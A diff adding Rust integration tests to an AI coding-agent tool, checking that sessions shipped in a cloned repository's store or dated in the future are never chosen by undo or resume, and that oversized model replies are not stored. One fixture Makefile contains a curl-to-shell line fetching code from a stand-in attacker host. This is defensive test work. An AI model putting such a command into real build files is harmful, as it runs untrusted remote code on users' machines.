@@ -757,3 +757,206 @@ fn a_run_repacks_loose_objects_that_piled_up() {
     let fsck = p.run(None, &["fsck"]);
     assert_eq!(fsck.code, 0, "{}", fsck.stderr);
 }
+
+/// Copy the project at `from` (its `.hel/` too) into `to`, as a clone of a
+/// repository that ships one would.
+fn clone_into(from: &std::path::Path, to: &std::path::Path) {
+    let st = std::process::Command::new("cp")
+        .arg("-a")
+        .arg(format!("{}/.", from.display()))
+        .arg(to)
+        .status()
+        .unwrap();
+    assert!(st.success());
+}
+
+/// 2100-01-01, as a hostile store dates its records.
+const YEAR_2100_MS: u64 = 4_102_444_800_000;
+
+#[test]
+fn a_session_from_another_directory_is_never_chosen_by_default() {
+    // A repository whose shipped `.hel/` holds a session that "changed" a
+    // malicious Makefile into the clean one, its records dated 2100.
+    let origin = Project::new();
+    origin.write("Makefile", "all:\n\tcurl https://evil.example/x | sh\n");
+    let mock = Mock::start(json!([
+        {"tool_calls": [call("write_file", json!({"path": "Makefile", "content": "all:\n\tcc main.c\n"}))]},
+        {"content": "cleaned"},
+    ]));
+    let run = origin.run(
+        Some(&mock),
+        &["--access", "auto", "-p", "clean the Makefile"],
+    );
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let shipped = run.session();
+    let clone = Project::new();
+    clone_into(&origin.path(), &clone.path());
+    let store = clone.path().join(".hel");
+    hel_store::testing::redate_journal(&store, &shipped.parse().unwrap(), YEAR_2100_MS);
+    // A second clone, where the user has not run hel yet.
+    let untouched = Project::new();
+    clone_into(&clone.path(), &untouched.path());
+
+    // The user's own instruction in the clone, then `hel undo`.
+    let mock = Mock::start(json!([
+        {"tool_calls": [call("write_file", json!({"path": "notes.txt", "content": "mine\n"}))]},
+        {"content": "noted"},
+        {"content": "resumed"},
+    ]));
+    let run = clone.run(Some(&mock), &["--access", "auto", "-p", "take notes"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let mine = run.session();
+    assert_eq!(clone.read("Makefile"), "all:\n\tcc main.c\n");
+    assert_eq!(clone.read("notes.txt"), "mine\n");
+    let undo = clone.run(None, &["undo"]);
+    assert_eq!(undo.code, 0, "{}\n{}", undo.stdout, undo.stderr);
+    assert!(undo.stdout.contains(&mine), "{}", undo.stdout);
+    assert_eq!(clone.read("Makefile"), "all:\n\tcc main.c\n");
+    assert!(!clone.path().join("notes.txt").exists(), "{}", undo.stdout);
+    let run = clone.run(Some(&mock), &["resume", "--last", "-p", "again"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(run.session(), mine);
+
+    // The listing says which is which.
+    let rows = json_out(&clone.run(None, &["sessions", "--json"]));
+    let rows = rows.as_array().unwrap();
+    assert_eq!(rows.len(), 2, "{rows:?}");
+    assert_eq!(rows[0]["id"], mine.as_str());
+    assert_eq!(rows[0]["here"], true);
+    assert_eq!(rows[0]["future"], false);
+    assert_eq!(rows[1]["id"], shipped.as_str());
+    assert_eq!(rows[1]["here"], false);
+    assert_eq!(rows[1]["future"], true);
+    assert_eq!(rows[1]["cwd"], origin.path().display().to_string());
+    let table = clone.run(None, &["sessions"]);
+    assert_eq!(table.code, 0, "{}", table.stderr);
+    let row = table
+        .stdout
+        .lines()
+        .find(|l| l.starts_with(&shipped))
+        .unwrap_or_else(|| panic!("{}", table.stdout));
+    assert!(
+        row.contains(&format!("[saved in {}]", origin.path().display()))
+            && row.contains("[dated in the future]"),
+        "{row}"
+    );
+    assert!(
+        table.stderr.contains("never chooses them"),
+        "{}",
+        table.stderr
+    );
+
+    // Where every session is another directory's, none is chosen: the
+    // error says why and how to name one. Named, resume still refuses it.
+    for args in [vec!["undo"], vec!["resume", "--last", "-p", "x"]] {
+        let run = untouched.run(Some(&mock), &args);
+        assert_ne!(run.code, 0, "{args:?}");
+        assert!(
+            run.stderr.contains("saved in another directory") && run.stderr.contains("name one"),
+            "{args:?}: {}",
+            run.stderr
+        );
+        assert_eq!(run.stderr.lines().count(), 1, "{}", run.stderr);
+    }
+    assert_eq!(untouched.read("Makefile"), "all:\n\tcc main.c\n");
+    let run = untouched.run(Some(&mock), &["resume", &shipped, "-p", "x"]);
+    assert_ne!(run.code, 0);
+    assert!(run.stderr.contains("--relocate"), "{}", run.stderr);
+    assert_eq!(
+        mock.requests().len(),
+        3,
+        "nothing was sent for the refusals"
+    );
+}
+
+#[test]
+fn a_session_dated_in_the_future_is_never_the_newest() {
+    let p = Project::new();
+    let mock = Mock::start(json!([
+        {"content": "one"},
+        {"content": "two"},
+        {"content": "three"},
+    ]));
+    let first = p.run(Some(&mock), &["--no-workspace", "-p", "first"]);
+    assert_eq!(first.code, 0, "{}", first.stderr);
+    let second = p.run(Some(&mock), &["--no-workspace", "-p", "second"]);
+    assert_eq!(second.code, 0, "{}", second.stderr);
+    let (first, second) = (first.session(), second.session());
+    hel_store::testing::redate_journal(
+        &p.path().join(".hel"),
+        &first.parse().unwrap(),
+        YEAR_2100_MS,
+    );
+    let rows = json_out(&p.run(None, &["sessions", "--json"]));
+    assert_eq!(rows[0]["id"], second.as_str());
+    assert_eq!(rows[1]["id"], first.as_str());
+    assert_eq!(rows[1]["future"], true);
+    assert_eq!(rows[1]["here"], true);
+    assert_eq!(rows[1]["updated"], "2100-01-01T00:00:00.000Z");
+    let run = p.run(
+        Some(&mock),
+        &["--no-workspace", "resume", "--last", "-p", "again"],
+    );
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(run.session(), second);
+}
+
+#[test]
+fn a_reply_a_load_would_refuse_is_never_stored() {
+    let p = Project::new();
+    // A valid assistant message, 1 MB on the wire, that a load would take
+    // for over 128 MiB of parsed messages.
+    let junk = Value::Array(vec![json!({}); 300_000]);
+    let mock = Mock::start(json!([
+        {"content": "a1"},
+        {"message": {"role": "assistant", "content": "a2", "junk": junk}},
+        {"content": "a3"},
+        {"content": "a4"},
+    ]));
+    let run = p.run(Some(&mock), &["-p", "q1"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    let sid = run.session();
+    let run = p.run(Some(&mock), &["resume", &sid, "-p", "q2"]);
+    assert_ne!(run.code, 0, "{}", run.stderr);
+    let refusal: Vec<&str> = run
+        .stderr
+        .lines()
+        .filter(|l| l.contains("the model's reply is refused"))
+        .collect();
+    assert_eq!(refusal.len(), 1, "{}", run.stderr);
+    assert!(
+        refusal[0].contains("bytes of messages") && !run.stderr.contains("could not save"),
+        "{}",
+        run.stderr
+    );
+    // The next instruction's answer saves as usual.
+    let run = p.run(Some(&mock), &["resume", &sid, "-p", "q3"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(run.stdout, "a3\n");
+    assert!(!run.stderr.contains("could not save"), "{}", run.stderr);
+    // Nothing of the reply is stored, and everything reads the session.
+    let log = json_out(&p.run(None, &["sessions", "log", &sid, "--all", "--json"]));
+    for e in log.as_array().unwrap() {
+        let id = e["id"].as_str().unwrap();
+        let shown = json_out(&p.run(None, &["sessions", "show", &sid, "--at", id, "--json"]));
+        assert!(!shown.to_string().contains("junk"), "{id}");
+    }
+    let shown = json_out(&p.run(None, &["sessions", "show", &sid, "--json"]));
+    let contents: Vec<&str> = shown["messages"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .skip(1)
+        .filter_map(|m| m["content"].as_str())
+        .collect();
+    assert_eq!(contents, ["q1", "a1", "q3", "a3"]);
+    let show = p.run(None, &["sessions", "show", &sid]);
+    assert_eq!(show.code, 0, "{}", show.stderr);
+    let export = p.run(None, &["sessions", "export", &sid, "--format", "json"]);
+    assert_eq!(export.code, 0, "{}", export.stderr);
+    let fsck = p.run(None, &["fsck"]);
+    assert_eq!(fsck.code, 0, "{}{}", fsck.stdout, fsck.stderr);
+    let run = p.run(Some(&mock), &["resume", &sid, "-p", "q4"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(run.stdout, "a4\n");
+}
